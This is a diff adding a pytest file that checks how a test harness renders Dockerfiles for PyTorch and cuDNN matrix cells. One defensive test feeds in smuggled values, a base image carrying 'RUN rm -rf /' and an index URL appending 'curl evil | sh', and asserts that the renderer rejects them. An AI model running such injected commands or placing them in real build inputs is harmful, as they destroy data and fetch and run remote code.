@@ -1,0 +1,144 @@
+"""Rendering cell images: pure functions of the cell and the build options (no engine needed)."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from harness import images
+from harness.errors import InputError
+from harness.matrix import Cell, CudnnSource
+from tests.conftest import run_cli
+
+CUDA = dict(torch="2.11.0+cu130", base_image="auto", python="3.12")
+
+
+def cell(kind: str, value: str | None = None, **axes: str) -> Cell:
+    return Cell(cudnn=CudnnSource(kind, value), **{**CUDA, **axes})  # type: ignore[arg-type]
+
+
+def final_stage(dockerfile: str) -> str:
+    return dockerfile.split("FROM python AS cell")[1]
+
+
+def test_bundled_cell_uses_the_nvidia_base_of_its_cuda_variant_and_pytorchs_index():
+    rendered = images.render(cell("bundled"), images.BuildOptions())
+    text = rendered.dockerfile
+    assert "FROM nvidia/cuda:13.0.1-base-ubuntu24.04 AS python" in text
+    assert "--index-url https://download.pytorch.org/whl/cu130" in text and '"torch==2.11.0+cu130"' in text
+    assert "COPY --from=torch /opt/venv /opt/venv" in final_stage(text)
+    assert "USER 10001:10001" in final_stage(text)
+    assert "cudnn" not in final_stage(text).lower().replace("cudnn-harness", "")
+    assert rendered.expect_cudnn == {"source": "bundled"}
+
+
+def test_wheel_cell_replaces_the_pinned_wheel_in_its_own_layers():
+    text = images.render(cell("wheel", "9.19.0.56"), images.BuildOptions()).dockerfile
+    assert '"nvidia-cudnn-cu13==9.19.0.56"' in text
+    final = final_stage(text)
+    # torch's layer first (shared with the bundled cell), then the cuDNN swap
+    assert final.index("COPY --from=torch /opt/venv") < final.index(
+        "RUN rm -rf /opt/venv/lib/python3.12/site-packages/nvidia/cudnn"
+    )
+    assert "COPY --from=cudnn /opt/venv/lib/python3.12/site-packages/nvidia/cudnn" in final
+
+
+def test_system_cell_installs_the_apt_package_and_removes_the_wheels_copy():
+    rendered = images.render(cell("system", "9.14.0.64"), images.BuildOptions())
+    text = rendered.dockerfile
+    assert '"libcudnn9-cuda-13=9.14.0.64-1"' in text
+    final = final_stage(text)
+    assert "rm -rf /opt/venv/lib/python3.12/site-packages/nvidia/cudnn" in final
+    assert "COPY --from=cudnn /opt/cudnn/lib/ /opt/cudnn/lib/" in final and "ldconfig" in final
+    assert rendered.expect_cudnn == {"source": "system", "lib_dir": "/opt/cudnn/lib", "version": "9.14.0.64"}
+
+
+def test_cells_sharing_a_torch_build_render_identical_torch_stages():
+    def python_and_torch_stages(dockerfile: str) -> str:
+        body = dockerfile.split("\n", 2)[2]  # after the two header lines that name the cell
+        return re.split(r"# ---- (?:stage cudnn|final stage)", body)[0]
+
+    stages = [
+        python_and_torch_stages(images.render(cell(k, v), images.BuildOptions()).dockerfile)
+        for k, v in (("bundled", None), ("wheel", "9.19.0.56"), ("system", "9.14.0.64"), ("disabled", None))
+    ]
+    assert len(set(stages)) == 1
+
+
+def test_build_only_inputs_never_reach_the_final_stage(tmp_path: Path):
+    (tmp_path / "wheelhouse").mkdir()
+    (tmp_path / "wheelhouse" / "torch-2.11.0+cu130-cp312-cp312-linux_x86_64.whl").write_bytes(b"w")
+    (tmp_path / "ca.pem").write_text("-----BEGIN CERTIFICATE-----\n")
+    for kind, value in (("bundled", None), ("system", "9.14.0.64")):
+        rendered = images.render(
+            cell(kind, value),
+            images.BuildOptions(wheelhouse=tmp_path / "wheelhouse", ca_bundle=tmp_path / "ca.pem"),
+        )
+        final = final_stage(rendered.dockerfile)
+        assert "harness-build" not in final and "ca-bundle" not in final and "PIP_CERT" not in final
+        assert "--no-index --find-links /tmp/harness-build/wheelhouse" in rendered.dockerfile
+        assert set(rendered.context) >= {
+            "ca-bundle.pem",
+            "wheelhouse/torch-2.11.0+cu130-cp312-cp312-linux_x86_64.whl",
+            "harness/__init__.py",
+            "harness/suite/__main__.py",
+        }
+        assert not any(
+            name.startswith("harness/") and "suite" not in name and name != "harness/__init__.py"
+            for name in rendered.context
+        )  # the orchestrator never goes into an image
+
+
+def test_tag_follows_content(tmp_path: Path):
+    ca = tmp_path / "ca.pem"
+    ca.write_text("one")
+    first = images.render(cell("bundled"), images.BuildOptions(ca_bundle=ca)).tag
+    assert images.render(cell("bundled"), images.BuildOptions(ca_bundle=ca)).tag == first
+    ca.write_text("two")
+    assert images.render(cell("bundled"), images.BuildOptions(ca_bundle=ca)).tag != first
+    assert images.render(cell("bundled", python="3.11"), images.BuildOptions()).tag != first
+
+
+def test_unsafe_values_cannot_reach_a_dockerfile():
+    with pytest.raises(InputError):
+        images.render(cell("bundled", base_image="ubuntu\nRUN rm -rf /"), images.BuildOptions())
+    with pytest.raises(InputError, match="plain http"):
+        images.render(
+            cell("bundled"), images.BuildOptions(index_url="https://x.org/simple' && curl evil | sh")
+        )
+
+
+def test_images_dry_run_prints_every_dockerfile(write_matrix):
+    path = write_matrix("""
+schema_version: 1
+name: dry
+backend: docker
+axes:
+  torch: ["2.11.0+cu130"]
+  cudnn: [bundled, {wheel: "9.19.0.56"}, {system: "9.14.0.64"}]
+  python: ["3.12"]
+baseline: {cudnn: bundled}
+""")
+    done = run_cli("images", "--dry-run", "--matrix", str(path))
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.count("# ===== cudnn-harness-cell:") == 3
+    assert done.stdout.count("FROM nvidia/cuda:13.0.1-base-ubuntu24.04 AS python") == 3
+
+
+def test_docker_matrices_are_checked_for_what_images_can_realize(write_matrix):
+    path = write_matrix("""
+schema_version: 1
+name: bad
+backend: docker
+axes:
+  torch: ["2.13.0+cpu", "2.11.0+cu130"]
+  cudnn: [bundled, {system: auto}]
+  python: ["3.12"]
+baseline: {cudnn: bundled, torch: "2.11.0+cu130"}
+""")
+    done = run_cli("plan", "--matrix", str(path))
+    assert done.returncode == 2
+    assert "a CPU build of torch loads no cuDNN" in done.stderr
+    assert "system needs its full version" in done.stderr
